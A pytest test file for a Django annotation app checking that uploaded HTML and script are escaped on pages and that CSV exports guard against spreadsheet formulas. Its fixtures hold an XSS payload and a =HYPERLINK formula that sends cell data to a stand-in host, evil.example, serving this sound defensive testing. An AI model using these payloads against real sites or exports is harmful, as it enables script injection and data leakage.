"""Uploaded text is shown as text, and CSV exports are guarded against formulas.

Cast: study "Main <script>..." of 4 pairs whose questions' texts carry HTML and script,
whose external ids and subject begin with spreadsheet formulas; evaluator
``ada`` (on the judging page), researcher ``rita``, superuser ``root``.
"""
from __future__ import annotations

import csv
import io
import re

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse

from annotate.api.services import api_token_create
from annotate.models import Participation, Question, Subject
from annotate.studies.services.judging import judging_screen, judgment_submit
from annotate.studies.services.participation import invitation_create
from tests.annotate.factories import make_catalog, make_evaluator, make_study, make_user

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("owned")</script><b onmouseover="x()">bold</b>'
ESCAPED = "&lt;script&gt;alert(&quot;owned&quot;)&lt;/script&gt;&lt;b onmouseover=&quot;x()&quot;&gt;bold&lt;/b&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


@pytest.fixture
def cast():
    catalog = make_catalog(per_subject=4, subjects=("Mathematics",))
    Subject.objects.filter(pk=catalog.subjects[0].pk).update(name="+SUM(A1:A9)")
    for k, question in enumerate(Question.objects.filter(dataset=catalog.dataset).order_by("pk")):
        question.text = f"Question {k}: {SCRIPT}"
        question.external_id = f"{FORMULA}{k}"
        question.save()
    study = make_study(catalog, n_pairs=4, name=f"Main {SCRIPT}")
    invitation_create(study=study, note=SCRIPT)
    ada = make_evaluator(study, "ada")
    bob = make_evaluator(study, "@bob")  # a staff-chosen username that starts with a formula character
    for participation, choices in ((ada, ["left", "right"]), (bob, ["left", "skip", "right"])):
        answer(participation, choices)
    rita = make_user("rita")
    rita.groups.add(Group.objects.get_or_create(name="researcher")[0])
    study.members.add(rita)
    root = make_user("root", staff=True)
    root.is_superuser = True
    root.save()
    return catalog, study, ada, rita, root


def answer(participation: Participation, choices: list[str]) -> None:
    for choice in choices:
        screen = judging_screen(participation=participation)
        judgment_submit(participation=participation, pair_id=screen.pair.pk, left_question_id=screen.left.pk,
                        choice=choice)


def page(user, url: str) -> str:
    client = Client()
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


def assert_shown_as_text(html: str) -> None:
    assert "<script>alert(" not in html and '<b onmouseover="x()">' not in html
    assert ESCAPED in html


def test_the_judging_page_shows_question_html_as_text(cast):
    _, study, ada, _, _ = cast
    html = page(ada.user, reverse("annotate:study_judge", kwargs={"study_id": study.pk}))
    assert html.count(ESCAPED) == 1  # the study name (Django's escaping)
    # both questions of the pair, through annotate/core/rendering.py (Markdown escapes <, > and &, not quotes)
    assert html.count(ESCAPED.replace("&quot;", '"')) == 2
    assert_shown_as_text(html)


def test_the_question_list_shows_question_html_as_text(cast):
    catalog, _, _, rita, root = cast
    # through annotate/core/rendering.py, as on the judging page (it escapes <, > and &, not quotes)
    rendered = ESCAPED.replace("&quot;", '"')
    questions = page(rita, reverse("annotate:run_questions", kwargs={"run_id": catalog.run.pk}))
    assert "<script>alert(" not in questions and '<b onmouseover="x()">' not in questions and rendered in questions
    admin_list = page(root, reverse("admin:annotate_question_changelist"))
    assert "<script>alert(" not in admin_list and rendered in admin_list
    question = Question.objects.filter(dataset=catalog.dataset).first()
    assert_shown_as_text(page(root, reverse("admin:annotate_question_change", args=[question.pk])))


def test_the_report_and_the_staff_page_show_uploaded_names_as_text(cast):
    _, study, _, rita, root = cast
    assert_shown_as_text(page(rita, reverse("annotate:study_report", kwargs={"study_id": study.pk})))  # the study name
    manage = page(root, reverse("annotate:study_manage", kwargs={"study_id": study.pk}))
    assert_shown_as_text(manage)  # the study name and the invitation note


def test_json_answers_are_never_sniffed_as_html(cast):
    _, study, _, rita, _ = cast
    client = Client(HTTP_AUTHORIZATION=f"Token {api_token_create(user=rita)[1]}")
    response = client.get(reverse("annotate:api_study_judgments", kwargs={"study_id": study.pk}))
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def assert_guarded(cells: list[str]) -> None:
    dangerous = [c for c in cells if FORMULA_START.match(c) and not NUMBER.match(c)]
    assert dangerous == [], dangerous


@pytest.mark.parametrize("via", ["site", "api"])
def test_judgment_exports_guard_formulas(cast, via):
    _, study, _, rita, _ = cast
    if via == "site":
        client = Client()
        client.force_login(rita)
        response = client.get(reverse("annotate:study_judgments_csv", kwargs={"study_id": study.pk}))
        content = b"".join(response.streaming_content)
    else:
        client = Client(HTTP_AUTHORIZATION=f"Token {api_token_create(user=rita)[1]}")
        url = reverse("annotate:api_study_judgments", kwargs={"study_id": study.pk})
        content = client.get(url, {"format": "csv"}).content
    cells = csv_cells(content)
    assert_guarded(cells)
    guarded = [c for c in cells if c.startswith("'=HYPERLINK(")]
    assert len(guarded) >= 4 * 5  # question_a, question_b, left, right (+ harder) of each of the 5 answers
    assert "'+SUM(A1:A9)" in cells and "'@bob" in cells
    assert f"'{FORMULA}0" in cells or f"'{FORMULA}1" in cells  # the text after the guard is intact


@pytest.mark.parametrize("via", ["site", "api"])
def test_report_exports_guard_formulas(cast, via):
    _, study, _, rita, _ = cast
    if via == "site":
        client = Client()
        client.force_login(rita)
        url = reverse("annotate:study_report_csv", kwargs={"study_id": study.pk})
        content = client.get(url, {"n_boot": 20}).content
    else:
        client = Client(HTTP_AUTHORIZATION=f"Token {api_token_create(user=rita)[1]}")
        content = client.get(reverse("annotate:api_study_report", kwargs={"study_id": study.pk}),
                             {"format": "csv", "n_boot": 20}).content
    cells = csv_cells(content)
    assert_guarded(cells)
    assert "'@bob" in cells  # the evaluator table names him, guarded
